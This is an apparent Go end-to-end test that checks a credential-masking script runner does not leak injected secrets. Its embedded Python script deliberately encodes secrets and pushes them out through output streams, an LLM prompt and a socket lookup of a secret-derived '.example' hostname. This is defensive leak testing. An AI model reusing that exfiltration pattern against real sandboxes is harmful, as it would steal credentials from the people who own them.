package hostile_test

import (
	"crypto/rand"
	"encoding/json"
	"fmt"
	mathrand "math/rand/v2"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/computclaw/airlock/cmd/airlock/internal/e2e"
)

// detector shares no code with the redactor.
const detector = "../../../../../app/redact/proof/detect.py"

// The number of executions, and of values that each tries to leak through every channel.
const (
	leakRuns   = 16
	leakValues = 4
)

// leakScript sends each value through every channel, in the encoding that inputs name. The last value is the error.
const leakScript = `import base64, json, socket, sys, urllib.parse
encoders = {
    "base64": lambda s: base64.b64encode(b"user:" + s.encode()).decode(),
    "base64url": lambda s: base64.urlsafe_b64encode(s.encode()).decode().rstrip("="),
    "base32": lambda s: base64.b32encode(s.encode()).decode(),
    "hex": lambda s: s.encode().hex(),
    "percent": lambda s: "".join("%%%02X" % b for b in s.encode()),
    "json": lambda s: "".join("\\u%04x" % ord(c) for c in s),
    "reversed": lambda s: s[::-1],
    "spaced": lambda s: " ".join(s),
}
result, last = {}, ""
for key, forms in inputs:
    text = settings.get(key)
    for form in forms:
        text = encoders[form](text)
    for i in range(0, len(text), 7):
        print(text[i:i + 7], end="", flush=True)
    print()
    print("to stderr:", text, file=sys.stderr)
    result[text] = [text, {"deep": [text[:len(text) // 2], text[len(text) // 2:]]}]
    llm.complete("What is " + text + "?")
    if len(text) < 64:  # what is longer is no name
        try:
            socket.create_connection((text + ".example", 443), timeout=5)
        except (OSError, UnicodeError):
            pass
    last = text
set_result(result)
raise RuntimeError("failed with " + last)
# typed in by hand: `

// TestNothingLeaks sends random values, plain and encoded, through every channel of the real
// program. The detector searches every answer, page, metric, log line, crash and database page,
// with the write-ahead log.
func TestNothingLeaks(t *testing.T) {
	t.Parallel()
	open := e2e.FreeAddress(t)
	in := e2e.StartInstance(t, "AIRLOCK_POOL=1", "AIRLOCK_METRICS_ADDR="+open)
	profile := []string{"profile", "create", "--description", "leaks"}
	for i := range leakValues {
		in.Admin("not-yet-"+rand.Text(), "credential", "set", fmt.Sprintf("VALUE_%d", i), "--mode", "injected")
		profile = append(profile, "--key", fmt.Sprintf("VALUE_%d", i))
	}
	id := in.Admin("", profile...)
	in.Admin("", "profile", "lock", id)
	random := mathrand.New(mathrand.NewPCG(1, 2))
	var all []string
	for range leakRuns {
		var plan []any
		script := leakScript
		for i := range leakValues {
			value := rand.Text() + "-" + rand.Text()[:6]
			all = append(all, value)
			key := fmt.Sprintf("VALUE_%d", i)
			in.Admin(value, "credential", "set", key)
			plan = append(plan, []any{key, oneForm(random)})
			script += value + " "
		}
		answerAll(in, id, script, plan)
	}
	pages := readPages(in)
	if pages < leakRuns {
		t.Errorf("only %d pages of executions were seen", pages)
	}
	readMonitors(in)
	readMetrics(in, "http://"+open)
	crash(in, id)
	detect(in, all)
}

// crash lets the server die while a script holds values: the log has all stacks, and the
// write-ahead log stays.
func crash(in *e2e.Instance, profile string) {
	in.T.Helper()
	holding := in.Submit(profile, "values = [settings.get(f'VALUE_{i}') for i in range(4)]\nllm.complete('on?')",
		time.Minute)
	e2e.Eventually(in.T, time.Minute, "a script holds the values", func() bool {
		var x e2e.Execution
		return in.Call(http.MethodGet, "/executions/"+holding.ID, nil, &x) == http.StatusOK && x.Status == "awaiting_llm"
	})
	e2e.Must(in.T, in.Server.Process.Signal(syscall.SIGABRT))
	_ = in.Server.Wait()
	log, err := os.ReadFile(in.Log)
	e2e.Must(in.T, err)
	if !strings.Contains(string(log), "SIGABRT") || strings.Count(string(log), "goroutine ") < 10 {
		in.T.Errorf("the server left no stacks: %.500s", log)
	}
}

// oneForm names an encoder, or none.
func oneForm(random *mathrand.Rand) []string {
	names := []string{"base64", "base64url", "base32", "hex", "percent", "json", "reversed", "spaced"}
	if n := random.IntN(len(names) + 1); n < len(names) {
		return []string{names[n]}
	}
	return []string{}
}

// answerAll runs a script, answers its questions and expects the script's own error.
func answerAll(in *e2e.Instance, profile, script string, inputs any) {
	in.T.Helper()
	var x struct {
		e2e.Execution
		Request *struct{} `json:"llm_request"`
	}
	if code := in.Call(http.MethodPost, "/execute",
		map[string]any{"profile_id": profile, "script": script, "inputs": inputs}, &x); code != http.StatusAccepted {
		in.T.Fatalf("submit: status %d", code)
	}
	answered := 0
	for deadline := time.Now().Add(60 * time.Second); time.Now().Before(deadline); {
		x.Request = nil
		in.Call(http.MethodGet, "/executions/"+x.ID+"?wait=5", nil, &x)
		switch {
		case x.Terminal():
			if x.Status != "error" || answered < leakValues { // what the error says may well be masked as a whole
				in.T.Fatalf("the script ended as %s after %d questions: %s\n%s", x.Status, answered, x.Error, x.Stderr)
			}
			return
		case x.Request != nil:
			answered++
			in.Call(http.MethodPost, "/executions/"+x.ID+"/respond", map[string]any{"response": "thanks"}, nil)
		}
	}
	in.T.Fatal("the script has not ended")
}

// readMonitors keeps what a monitor sees, for the detector.
func readMonitors(in *e2e.Instance) {
	in.T.Helper()
	for _, path := range []string{"/metrics", "/debug/pprof/", "/debug/pprof/goroutine?debug=2",
		"/debug/pprof/heap?debug=1", "/debug/pprof/allocs?debug=1"} {
		in.Keep([]byte(in.Monitor(path)))
	}
}

// readMetrics checks that a listener answers only /metrics, to everybody.
func readMetrics(in *e2e.Instance, base string) {
	in.T.Helper()
	for path, want := range map[string]int{"/metrics": http.StatusOK, "/": http.StatusNotFound,
		"/health": http.StatusNotFound, "/debug/pprof/": http.StatusNotFound, "/ui": http.StatusNotFound,
		"/execute": http.StatusNotFound} {
		status, text, _ := in.Do(http.MethodGet, base+path, e2e.SuiteToken, "", nil)
		if status != want ||
			want == http.StatusOK && !strings.Contains(string(text), "airlock_executions_ended_total{") {
			in.T.Errorf("%s on the metrics' own address: %d", path, status)
		}
		in.Keep(text)
	}
}

// readPages keeps every execution's pages for the detector, and returns their number.
func readPages(in *e2e.Instance) int {
	in.T.Helper()
	person := in.Person()
	seen := map[string]bool{}
	queue := []string{"/ui", "/ui/executions", "/ui/profiles", "/ui/credentials", "/ui/audit", "/ui/settings"}
	for len(queue) > 0 {
		path := queue[0]
		queue = queue[1:]
		for _, link := range e2e.ExecutionLink.FindAllString(person.Get(in, path), -1) {
			if !seen[link] {
				seen[link] = true
				queue = append(queue, link)
			}
		}
	}
	return len(seen)
}

// listTraces returns the files of all output: answers, the log, and the data directory.
func listTraces(in *e2e.Instance) []string {
	files := []string{in.Answers, in.Log}
	data, err := filepath.Glob(filepath.Join(in.Dir, "*"))
	e2e.Must(in.T, err)
	for _, path := range data {
		if info, err := os.Stat(path); err == nil && info.Mode().IsRegular() {
			files = append(files, path)
		}
	}
	return files
}

// detect searches every answer, the log and the database with an independent program. --whole
// searches only whole secrets, for scripts that reveal parts on purpose.
func detect(in *e2e.Instance, secrets []string, flags ...string) {
	in.T.Helper()
	list := filepath.Join(in.T.TempDir(), "secrets")
	e2e.Must(in.T, os.WriteFile(list, []byte(strings.Join(secrets, "\n")), 0o600))
	args := slices.Concat([]string{detector}, flags, []string{list}, listTraces(in))
	out, err := exec.Command("/usr/bin/python3", args...).CombinedOutput()
	if err != nil {
		in.T.Errorf("%v\n%s", err, out)
	}
	in.T.Logf("%s", out)
	// The detector itself must be able to find something.
	planted := filepath.Join(in.T.TempDir(), "planted")
	text, err := json.Marshal(map[string]string{"a": "x" + secrets[0] + "x"})
	e2e.Must(in.T, err)
	e2e.Must(in.T, os.WriteFile(planted, text, 0o600))
	if exec.Command("/usr/bin/python3", detector, list, planted).Run() == nil {
		in.T.Error("the detector finds nothing at all")
	}
}
